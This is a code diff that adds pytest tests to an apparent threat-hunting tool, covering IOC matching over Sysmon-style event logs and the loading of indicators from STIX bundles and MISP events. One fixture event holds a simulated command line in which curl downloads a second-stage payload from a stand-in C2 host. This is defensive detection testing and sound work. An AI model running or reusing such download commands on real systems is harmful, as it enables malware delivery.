@@ -301,3 +301,95 @@ def test_flagged_events_give_infrastructure_and_file_observations(tmp_path: Path
     infra = [o for o in result.case.observations if o.kind is ObservationKind.INFRASTRUCTURE]
     assert [(o.subtype, o.value, o.host) for o in infra] == [("ip", "5.6.7.9", "ws05")]
     assert infra[0].provenance is not None and infra[0].provenance.record == "1"
+
+
+def test_iocs_match_any_field_and_benign_values_are_suppressed(tmp_path: Path) -> None:
+    folder = tmp_path / "ev"
+    events = [
+        win_event(
+            1,
+            SYSMON,
+            process("C:\\x\\a.exe", "curl.exe hxxp://ignored http://evil-c2.example/stage2 -o x"),
+            computer="ws07",
+        ),
+        win_event(3, SYSMON, {"Image": "C:\\x\\b.exe", "DestinationIp": "5.6.7.8"}, computer="ws07"),
+        win_event(3, SYSMON, {"Image": "C:\\x\\c.exe", "DestinationIp": "8.8.8.8"}, computer="ws07"),
+        win_event(1, SYSMON, process("C:\\x\\d.exe", "d.exe", Hashes="SHA256=" + "C" * 64), computer="ws08"),
+    ]
+    write_jsonl(folder / "sysmon.jsonl", events)
+    iocs = tmp_path / "iocs.txt"
+    iocs.write_text("evil-c2[.]example\n5.6.7.8\n8.8.8.8\n10.0.0.1\n" + "c" * 64 + "\nnot-an-indicator!\n")
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    result = hunt([folder], [rules], tmp_path / "case", jobs=1, iocs=[iocs])
+    assert {s["value"] for s in result.iocs["suppressed"]} == {"8.8.8.8", "10.0.0.1"}
+    assert result.iocs["skipped"] == 1
+    rows = [r for r in read_findings(tmp_path / "case" / "findings.parquet") if r.rule_id.startswith("ioc:")]
+    details = {r.rule_id: r.detail for r in rows}
+    assert set(details) == {"ioc:domain", "ioc:ip", "ioc:sha256"}
+    assert details["ioc:domain"] is not None and details["ioc:domain"].startswith("CommandLine=")
+    assert details["ioc:ip"] == "DestinationIp=5.6.7.8"
+    observed = {(o.kind.value, o.value) for o in result.case.observations if o.confidence == 0.9}
+    assert {
+        ("infrastructure", "evil-c2.example"),
+        ("infrastructure", "5.6.7.8"),
+        ("file", "c" * 64),
+    } <= observed
+
+
+def test_indicator_files_stix_and_misp(tmp_path: Path) -> None:
+    from unmask.detect.indicators import load_indicators
+
+    bundle = {
+        "type": "bundle",
+        "id": "bundle--1",
+        "objects": [
+            {
+                "type": "indicator",
+                "id": "indicator--1",
+                "pattern_type": "stix",
+                "pattern": "[ipv4-addr:value = '5.6.7.8'] OR [domain-name:value = 'Evil.Example.']",
+            },
+            {
+                "type": "indicator",
+                "id": "indicator--2",
+                "pattern_type": "stix",
+                "pattern": "[file:hashes.'SHA-256' = '" + "ab" * 32 + "']",
+            },
+            {
+                "type": "indicator",
+                "id": "indicator--3",
+                "pattern_type": "stix",
+                "pattern": "[process:name = 'x.exe']",
+            },
+            {"type": "malware", "id": "malware--1", "name": "x"},
+        ],
+    }
+    path = tmp_path / "b.json"
+    path.write_text(json.dumps(bundle))
+    found = load_indicators(path)
+    assert {(i.kind, i.value) for i in found.indicators} == {
+        ("ip", "5.6.7.8"),
+        ("domain", "evil.example"),
+        ("sha256", "ab" * 32),
+    }
+    assert found.skipped == 1
+    event = {
+        "Event": {
+            "info": "x",
+            "Attribute": [
+                {"type": "ip-dst|port", "value": "5.6.7.9|443", "uuid": "u1"},
+                {"type": "comment", "value": "hi"},
+            ],
+            "Object": [{"Attribute": [{"type": "url", "value": "hxxps://bad[.]example/a", "uuid": "u2"}]}],
+        }
+    }
+    path.write_text(json.dumps(event))
+    found = load_indicators(path)
+    assert {(i.kind, i.value, i.ref) for i in found.indicators} == {
+        ("ip", "5.6.7.9", "u1"),
+        ("url", "https://bad.example/a", "u2"),
+    }
+    path.write_text("{ not json")
+    with pytest.raises(Exception, match="malformed JSON"):
+        load_indicators(path)
